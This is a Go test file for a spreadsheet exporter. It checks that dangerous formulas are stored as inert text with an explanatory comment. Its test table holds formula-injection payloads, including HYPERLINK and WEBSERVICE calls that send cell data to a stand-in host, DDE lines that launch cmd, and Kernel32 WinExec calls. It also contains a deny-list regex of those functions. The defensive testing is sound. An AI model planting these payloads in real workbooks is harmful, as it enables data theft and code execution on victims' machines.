package xlsx

import (
	"archive/zip"
	"bytes"
	"context"
	"html"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"thesisboard/app/calc"
	"thesisboard/app/model"
)

// hostileFormulas are inputs a person (or a pasted report) may put in a cell
// that Excel would run to reach outside the workbook, or cannot be sure not
// to; want is a word the note must give.
var hostileFormulas = []struct{ input, want string }{
	{`=HYPERLINK("https://evil.example/?d="&B2,"Click for details")`, "HYPERLINK"},
	{`=hyperlink("https://evil.example")`, "HYPERLINK"},
	{`=IFERROR(HYPERLINK("https://evil.example"),1)`, "HYPERLINK"},
	{`=WEBSERVICE("https://evil.example/?d="&B2)`, "WEBSERVICE"},
	{`=_xlfn.WEBSERVICE("https://evil.example")`, "WEBSERVICE"},
	{`=FILTERXML(WEBSERVICE("https://evil.example"),"//a")`, "FILTERXML"},
	{`=IMAGE("https://evil.example/p.png")`, "IMAGE"},
	{`=RTD("evil.server",,"x")`, "RTD"},
	{`=cmd|'/c calc'!A0`, "DDE"},
	{`=-2+3+cmd|' /C calc'!A0`, "DDE"},
	{`=SUM(1+1)*cmd|' /C notepad'!'A1'`, "DDE"},
	{`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`, "DDE"},
	{`=CALL("Kernel32","WinExec","JCJ","calc",0)`, "CALL"},
	{`=REGISTER("Kernel32","WinExec","JCJ")`, "REGISTER"},
	{`=EXEC("calc")`, "EXEC"},
	{`=INFO("directory")`, "INFO"},
	{`=CELL("filename",A1)`, "CELL"},
	{`=INDIRECT("'C:\secrets\[book.xlsx]Sheet1'!A1")`, "INDIRECT"},
	{`=OFFSET(B2,1,0)`, "OFFSET"},
	{`=[1]Sheet1!A1`, "another workbook"},
	{`='C:\secrets\[book.xlsx]Sheet1'!A1*2`, "another workbook"},
	{`=SUM('\\evil\share\[x.xlsx]S'!A1:A3)`, "another workbook"},
	{`=Nosuch!B2`, "Nosuch"},
	{`=SECRETNAME`, "SECRETNAME"},
	{`=LAMBDA(x,x)(1)`, "LAMBDA"},
	{`=B2 B3`, "operator"},
	{`=SUM({1,2})`, "array"},
	{`=B2+XFE1`, "XFE1"},
	{`=A1048577`, "A1048577"},
	{`=SUM(B2:B3`, "cannot read"},
	{`=1+`, "cannot read"},
}

// harmlessFormulas stay live: what the workbook must keep computing.
var harmlessFormulas = []struct{ input, formula string }{
	{`=B2*2`, `B2*2`},
	{`=SUM(B2:B3)`, `SUM(B2:B3)`},
	{`=IF(B2>B3,"debt leads","cash leads")`, `IF(B2>B3,"debt leads","cash leads")`},
	{`=ROUND(B2/B3,2)`, `ROUND(B2/B3,2)`},
	{`='Other sheet'!B2+1`, `'Other sheet'!B2+1`},
	{`=other!B2+1`, `'Other sheet'!B2+1`},
	{`=TEXT(B2,"0.0")&" (text)"`, `TEXT(B2,"0.0")&" (text)"`},
	{`=IFERROR(B2/0,"none")`, `IFERROR(B2/0,"none")`},
	{`=D2`, `D2`}, // reads a hostile cell: text in Excel, an error here, live either way
}

// hostileAnalysis has the hostile formulas in column D of sheet "Model",
// from row 2, and the harmless ones in column E.
func hostileAnalysis(t *testing.T) *model.Analysis {
	t.Helper()
	a := &model.Analysis{Title: "Hostile", Sections: []model.Section{
		{ID: "model", Title: "Model"}, {ID: "other", Title: "Other sheet"},
	}}
	ops := []model.Op{
		{Kind: model.OpSetCell, Sheet: "model", Cell: "A1", Input: "Item"},
		{Kind: model.OpSetCell, Sheet: "model", Cell: "B2", Input: "$18.3B"},
		{Kind: model.OpSetCell, Sheet: "model", Cell: "B3", Input: "$1.2–$1.4B"},
		{Kind: model.OpSetCell, Sheet: "other", Cell: "B2", Input: "7"},
	}
	for i, h := range hostileFormulas {
		ops = append(ops, model.Op{Kind: model.OpSetCell, Sheet: "model", Cell: model.Addr(i+1, 3), Input: h.input})
	}
	for i, h := range harmlessFormulas {
		ops = append(ops, model.Op{Kind: model.OpSetCell, Sheet: "model", Cell: model.Addr(i+1, 4), Input: h.input})
	}
	for _, op := range ops {
		if err := calc.Apply(a, op); err != nil {
			t.Fatalf("%s: %v", op.Input, err)
		}
	}
	return a
}

var formulaElemRe = regexp.MustCompile(`<f\b[^>]*?(?:/>|>([^<]*)</f>)`)

// sheetFormulas is every <f> element's text in every worksheet of a
// workbook, read from the XML itself rather than through excelize.
func sheetFormulas(t *testing.T, data []byte) []string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") || !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		rc, _ := f.Open()
		body, _ := io.ReadAll(rc)
		rc.Close()
		for _, m := range formulaElemRe.FindAllStringSubmatch(string(body), -1) {
			out = append(out, html.UnescapeString(m[1]))
		}
	}
	return out
}

// TestHostileFormulasAreWrittenAsText exports formulas that would reach
// outside the workbook and checks that no formula of the file calls them
// (in the sheets' XML), that each such cell holds its input as text with a
// note saying why, that harmless formulas stay live, and that the import
// gets every input back.
func TestHostileFormulasAreWrittenAsText(t *testing.T) {
	a := hostileAnalysis(t)
	var buf bytes.Buffer
	if err := Write(&buf, a); err != nil {
		t.Fatal(err)
	}
	formulas := sheetFormulas(t, buf.Bytes())
	banned := regexp.MustCompile(`(?i)HYPERLINK|WEBSERVICE|FILTERXML|IMAGE|RTD|CALL|REGISTER|EXEC|INFO|CELL|INDIRECT|OFFSET|LAMBDA|SECRETNAME|Nosuch|[|\[\\]`)
	for _, f := range formulas {
		if banned.MatchString(f) {
			t.Errorf("the workbook has the live formula %q", f)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	notes := map[string]string{}
	comments, _ := f.GetComments("Model")
	for _, c := range comments {
		notes[c.Cell] = c.Text
	}
	for i, h := range hostileFormulas {
		addr := model.Addr(i+1, 3)
		got, _ := f.GetCellValue("Model", addr, excelize.Options{RawCellValue: true})
		formula, _ := f.GetCellFormula("Model", addr)
		if got != h.input || formula != "" {
			t.Errorf("%s %s: written as %q with formula %q, want the input as text", addr, h.input, got, formula)
		}
		if note := notes[addr]; !strings.HasPrefix(note, "Written as text") || !strings.Contains(note, h.want) {
			t.Errorf("%s %s: note %q, want one saying why (%s)", addr, h.input, note, h.want)
		}
	}
	for i, h := range harmlessFormulas {
		addr := model.Addr(i+1, 4)
		if got, _ := f.GetCellFormula("Model", addr); got != h.formula {
			t.Errorf("%s %s: formula %q, want %q live", addr, h.input, got, h.formula)
		}
	}
	if want := len(harmlessFormulas); len(formulas) < want {
		t.Errorf("%d formulas in the file, want at least the %d harmless ones", len(formulas), want)
	}
	res, err := Read(context.Background(), buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostileFormulas {
		if got := res.Analysis.Section("model").Cell(i+1, 3); got.Input != h.input {
			t.Errorf("imported %s = %q, want %q", model.Addr(i+1, 3), got.Input, h.input)
		}
	}
}

// TestRunnableFunctionsAreComputed holds runnableFunctions to the functions
// app/calc computes: each is known to calc (it does not give #NAME?).
func TestRunnableFunctionsAreComputed(t *testing.T) {
	a := &model.Analysis{Sections: []model.Section{{ID: "s", Title: "s"}}}
	e := calc.NewEngine(a)
	for name := range runnableFunctions {
		if err := e.Apply(model.Op{Kind: model.OpSetCell, Sheet: "s", Cell: "A1", Input: "=" + name + "(1)"}); err != nil {
			t.Fatal(err)
		}
		if v := a.Sections[0].Cells[0][0].Value; v.Kind == model.KindError && v.Text == calc.ErrName {
			t.Errorf("%s is allowed in live formulas, but calc does not compute it", name)
		}
	}
	for name := range outsideFunctions {
		if runnableFunctions[name] {
			t.Errorf("%s reaches outside the workbook and is allowed", name)
		}
	}
}

// TestUncomputedFormulasAreChecked: a formula never computed (its value is
// its text, as model.ParseInput leaves it) is parsed before it goes live.
func TestUncomputedFormulasAreChecked(t *testing.T) {
	a := &model.Analysis{Title: "Uncomputed", Sections: []model.Section{{ID: "m", Title: "M"}}}
	for i, in := range []string{"Formula", "=SUM(1,2", "=1+2"} {
		if err := calc.ApplyUncomputed(a, model.Op{Kind: model.OpSetCell, Sheet: "m", Cell: model.Addr(i, 0), Input: in}); err != nil {
			t.Fatal(err)
		}
	}
	f, err := Build(a)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, _ := f.GetCellFormula("M", "A2"); got != "" {
		t.Errorf("the unreadable formula is live: %q", got)
	}
	if got, _ := f.GetCellFormula("M", "A3"); got != "1+2" {
		t.Errorf("=1+2 is written as %q", got)
	}
}
